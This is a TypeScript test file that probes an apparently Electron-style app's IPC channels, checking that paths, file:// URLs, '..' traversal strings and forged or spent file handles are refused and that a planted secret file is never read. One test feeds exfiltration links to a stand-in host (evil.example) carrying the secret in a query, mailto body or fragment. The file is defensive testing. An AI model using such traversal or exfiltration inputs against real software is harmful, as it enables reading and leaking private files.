import { randomBytes } from 'node:crypto'
import { mkdirSync, mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { basename, join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { DROPPED_FILE_CHANNEL, allChannels, type Channel } from '../../../src/shared/contract'
import type { ImportSettings } from '../../../src/shared/import/outcome'
import { defaultSettings } from '../../../src/shared/settings'
import type { FileRef, ListedBackup, RecentWorkspace } from '../../../src/shared/types'
import { writeCsv } from '../../helpers/import'
import { createLoopback, type Loopback } from '../../helpers/loopback'

/**
 * The probe of issue 17 through the real handlers, with a trusted sender (as a compromised page would
 * have): every channel of the contract, with every string it takes replaced by a path, a file:// URL,
 * `..` segments, a forged handle or a spent one. Where the string names a file (or a link to open) the
 * call is refused with a clear one-line error; wherever it goes, the planted secret file is never read:
 * its content appears in no response, no import, no switch of workspace.
 */

const SECRET = 'TOP-SECRET-7731'
type R = { ok: boolean; code?: string; message?: string; data?: unknown }

let loop: Loopback
let dir: string
let secretPath: string
let legit: string
let responses: string[]

async function call(channel: string, args: unknown[]): Promise<R> {
  const res = (await loop.invoke(channel, args)) as R
  responses.push(JSON.stringify(res))
  return res
}
async function data<T>(channel: string, args: unknown[]): Promise<T> {
  const res = await call(channel, args)
  if (!res.ok) throw new Error(`${channel}: ${res.code}: ${res.message}`)
  return res.data as T
}
/** A fresh import handle for the legit file, the way the user gets one: the open dialog. */
async function chosen(): Promise<FileRef> {
  loop.dialogs.answers.push(legit)
  return data<FileRef>('import:chooseFile', [])
}

beforeAll(async () => {
  // One folder for the whole file (the helper's folders go after each test).
  dir = mkdtempSync(join(tmpdir(), 'tandem-probe-'))
  const secrets = join(dir, 'secrets')
  mkdirSync(secrets)
  // A file that would import cleanly, so reading it anywhere would show its content.
  secretPath = writeCsv(secrets, 'secret.csv', [
    ['Opportunity ID', 'Opportunity Name', 'Stage', 'Amount', 'Close Date'],
    [SECRET, SECRET, 'Closed Won', '1000', '2025-08-14'],
  ])
  legit = writeCsv(dir, 'deals.csv', [
    ['Opportunity ID', 'Opportunity Name', 'Stage', 'Amount', 'Close Date'],
    ['006A1', 'Acme renewal', 'Closed Won', '12500', '2025-08-14'],
  ])
  const app = join(dir, 'app')
  mkdirSync(app)
  loop = await createLoopback({ dir: app, appUrl: 'http://tandem.test/' })
  responses = []
})
afterAll(() => {
  loop.close()
  rmSync(dir, { recursive: true, force: true })
})

/** Every string a channel takes, in a valid call; the compiler makes the table name every channel. */
type Sample = { args: unknown[]; names: string[] }
async function samples(): Promise<Record<Channel, Sample>> {
  const live = await chosen()
  const inspected = await data<{ settings: ImportSettings }>('import:inspect', [live.handle])
  const request = { ...inspected.settings, file: live.handle }
  const backup = await data<ListedBackup>('backups:create', [])
  const recent = await data<RecentWorkspace[]>('workspace:recent', [])
  const asOf = '2025-09-30T12:00'
  const deck = await data<unknown>('presentation:settings', [])
  const text = (args: unknown[]): Sample => ({ args, names: [] })
  const naming = (args: unknown[], ...names: string[]): Sample => ({ args, names })
  return {
    'app:info': text([]),
    'app:openExternal': naming(['https://docs.example.com/help'], '0'),
    'workspace:current': text([]),
    'workspace:create': text([]),
    'workspace:open': text([]),
    'workspace:openRecent': naming([recent[0]!.id], '0'),
    'workspace:saveAs': text([]),
    'workspace:recent': text([]),
    'workspace:exportAll': text([]),
    'workspace:damaged': text([]),
    'workspace:restoreDamaged': text([]),
    'backups:list': text([]),
    'backups:create': text([]),
    'backups:restore': naming([backup.id], '0'),
    'settings:get': text([]),
    'settings:save': text([defaultSettings()]),
    'settings:defaults': text([]),
    'settings:exportFile': text([]),
    'settings:importFile': text([]),
    'import:chooseFile': text([]),
    'import:inspect': naming([live.handle, { sheet: 'Sheet1' }], '0'),
    'import:preview': naming(['job-probe-1', request], '1.file'),
    'import:commit': naming(['job-probe-2', request], '1.file'),
    'import:cancel': text(['job-probe-1']),
    'import:history': text([]),
    'import:problems': text([1, 0, 10]),
    'import:undo': text([1]),
    'import:saveProblems': text([{ jobId: 'job-probe-1' }]),
    'handoff:overview': text([{ asOf, from: '2025-07-01', to: '2025-09-30' }]),
    'handoff:trends': text([asOf]),
    'handoff:funnel': text([{ from: '2025-07-01', to: '2025-09-30', asOf }]),
    'handoff:leads': text([
      {
        asOf,
        sort: 'status',
        descending: false,
        owner: 'Ana',
        grade: 'A',
        source: 'Web',
        status: null,
        search: 'acme',
        offset: 0,
        limit: 10,
      },
    ]),
    'handoff:lead': text([1, asOf]),
    'handoff:facets': text([]),
    'handoff:gradeHistory': text([]),
    'handoff:mqlTargets': text([]),
    'handoff:setMqlTarget': text(['2025-08', 10]),
    'board:view': text([{ owner: 'Ana', team: null, meetingId: null, overdueOnly: false }]),
    'board:meeting': text([1]),
    'board:meetingItems': text([1]),
    'board:saveMeeting': text([
      { title: 'Sync', scheduledAt: '2025-10-01T10:00', attendees: ['Ana'], agenda: 'a', notes: 'n', decisions: ['d'] },
    ]),
    'board:startMeeting': text([{ title: 'Sync' }]),
    'board:endMeeting': text([1]),
    'board:createItem': text([
      { title: 'Call', notes: 'n', owner: 'Ana', team: 'joint', dueDate: '2030-01-04', link: { kind: 'lead', id: 'L1', label: 'Lead' } },
    ]),
    'board:capture': text(['Follow up @ana #sales']),
    'board:editItem': text([1, { title: 'Call', notes: 'n', owner: 'Ana', team: 'sales', dueDate: null, status: 'todo' }]),
    'board:moveItem': text([1, 'done', null]),
    'board:removeItem': text([1]),
    'board:restoreItem': text([1]),
    'board:report': text([]),
    'board:exportMinutes': text([1, 'md']),
    'targets:report': text([{ period: '2025-Q3', asOf: '2025-09-30' }]),
    'targets:list': text(['2025-Q3']),
    'targets:save': text([[{ period: '2025-08', team: 'sales', segment: 'Furniture', amount: '1000' }]]),
    'targets:undated': text(['won']),
    'roi:report': text([{ period: '2025-Q3', asOf: '2025-09-30' }]),
    'presentation:settings': text([]),
    'presentation:saveSettings': text([deck]),
    'presentation:deck': text([{ profile: 'Default' }]),
    'presentation:presenterDeck': text([]),
    'presentation:state': text([]),
    'presentation:start': text([{ presenterView: true }]),
    'presentation:control': text([{ action: 'next' }]),
    'presentation:stop': text([]),
  }
}

/** Dotted paths of every string in a value (`1.file`, `0.mapping.amount.header`). */
function stringLeaves(value: unknown, at = ''): string[] {
  if (typeof value === 'string') return [at]
  if (value === null || typeof value !== 'object') return []
  return Object.entries(value).flatMap(([k, v]) => stringLeaves(v, at === '' ? k : `${at}.${k}`))
}
function replaced(args: unknown[], leaf: string, by: string): unknown[] {
  const copy = structuredClone(args)
  const keys = leaf.split('.')
  let node = copy as unknown as Record<string, unknown>
  for (const k of keys.slice(0, -1)) node = node[k] as Record<string, unknown>
  node[keys[keys.length - 1]!] = by
  return copy
}

describe('the page never names a file', () => {
  it('every channel, every string it takes: paths, file:// URLs, .. segments, forged and spent handles are refused and read nothing', async () => {
    const table = await samples()
    expect(Object.keys(table).sort()).toEqual(
      allChannels()
        .map((c) => c.channel)
        .sort(),
    )

    // A spent handle (its import was committed) and a retired one (another file was chosen since).
    const spentRef = await chosen()
    const { settings } = await data<{ settings: ImportSettings }>('import:inspect', [spentRef.handle])
    await data('import:commit', ['job-probe-spend', { ...settings, file: spentRef.handle }])
    const retired = await chosen()
    await chosen()
    const workspaceBefore = loop.workspace.path
    const batchesBefore = (await data<unknown[]>('import:history', [])).length

    const attacks: Record<string, string> = {
      path: secretPath,
      'file URL': `file://${secretPath}`,
      'dot segments': `${dir}/app/../secrets/./secret.csv`,
      'relative dot segments': `../../../../../../../..${secretPath}`,
      'forged handle': `fh_${randomBytes(16).toString('base64url')}`,
      'spent handle': spentRef.handle,
      'retired handle': retired.handle,
    }
    let probed = 0
    for (const { channel, args: schema } of allChannels()) {
      const sample = table[channel]
      // The sample is a valid call, so each refusal below is the attack's doing.
      expect(schema.safeParse(sample.args).success, `${channel}'s sample must be valid`).toBe(true)
      const leaves = stringLeaves(sample.args)
      for (const name of sample.names) expect(leaves, channel).toContain(name)
      for (const [what, attack] of Object.entries(attacks)) {
        // Tacked on as an extra argument: no channel takes one.
        const extra = await call(channel, [...sample.args, attack])
        expect(extra, `${channel} + ${what}`).toMatchObject({ ok: false, code: 'BAD_ARGS' })
        for (const leaf of leaves) {
          // Any dialog a call opens (saving a preview's invalid rows) is cancelled.
          loop.dialogs.answers.splice(0, Infinity, null)
          const res = await call(channel, replaced(sample.args, leaf, attack))
          probed++
          if (sample.names.includes(leaf)) {
            expect(res.ok, `${channel} (${leaf} = ${what}) must be refused`).toBe(false)
            expect(['BAD_ARGS', 'FILE_HANDLE', 'NOT_FOUND', 'URL_REFUSED'], `${channel} (${leaf} = ${what})`).toContain(res.code)
            expect(res.message).toMatch(/^[^\n]{10,200}$/)
            expect(res.message).toMatch(/file handle|choose|drop|recent workspaces|backups|link/i)
          }
        }
      }
    }
    loop.dialogs.answers.length = 0
    expect(probed).toBeGreaterThan(100)
    expect(loop.opened).toEqual([]) // no link was even offered to the user
    for (const r of responses) expect(r).not.toContain(SECRET)
    expect(loop.workspace.path).toBe(workspaceBefore)
    const batches = await data<{ fileName: string }[]>('import:history', [])
    expect(batches.map((b) => b.fileName)).not.toContain(basename(secretPath))
    expect(batches.length).toBeGreaterThanOrEqual(batchesBefore)
    expect(loop.errors).toEqual([]) // every refusal was a clear one, none an internal error
  }, 120_000)

  it('the private drop channel is not a channel of the page, and takes a path only from the app', async () => {
    expect(await loop.invoke(DROPPED_FILE_CHANNEL, [secretPath])).toMatchObject({ ok: false, code: 'BAD_ARGS' })
    expect(await loop.registerDropped(secretPath, 'https://evil.example/')).toMatchObject({ ok: false, code: 'UNTRUSTED_SENDER' })
    const dropped = (await loop.registerDropped(legit)) as { ok: true; data: FileRef }
    expect(dropped).toMatchObject({ ok: true })
    expect(dropped.data).toEqual({ handle: expect.stringMatching(/^fh_/), name: 'deals.csv' })
    expect(await data('import:inspect', [dropped.data.handle])).toMatchObject({ fileName: 'deals.csv' })
  })

  it('a backup id of another workspace, or a recent workspace no longer listed, opens nothing', async () => {
    const backup = await data<ListedBackup>('backups:create', [])
    const first = loop.workspace.path
    loop.dialogs.answers.push(join(dir, 'app', 'second.sqlite'))
    await data('workspace:create', [])
    expect(await call('backups:restore', [backup.id])).toMatchObject({ ok: false, code: 'NOT_FOUND' })
    const recent = await data<RecentWorkspace[]>('workspace:recent', [])
    const old = recent.find((r) => r.name === basename(first))!
    expect(JSON.stringify(recent)).not.toContain(dir) // names, never paths
    loop.prefs.forgetWorkspace(first)
    expect(await call('workspace:openRecent', [old.id])).toMatchObject({ ok: false, code: 'NOT_FOUND' })
    expect(loop.workspace.path).toBe(join(dir, 'app', 'second.sqlite'))
  })

  it('a link the page asks to open: never with a query string, and only once the user confirms', async () => {
    for (const url of [`https://evil.example/?d=${SECRET}`, `mailto:x@evil.example?body=${SECRET}`, `https://evil.example/#${SECRET}`]) {
      expect(await call('app:openExternal', [url])).toMatchObject({ ok: false, code: 'URL_REFUSED' })
    }
    expect(loop.opened).toEqual([])
    loop.confirmExternal = false
    expect(await data('app:openExternal', ['https://docs.example.com/help'])).toBe(false)
    loop.confirmExternal = true
    expect(await data('app:openExternal', ['https://docs.example.com/help'])).toBe(true)
    expect(loop.opened).toEqual(['https://docs.example.com/help', 'https://docs.example.com/help'])
  })
})
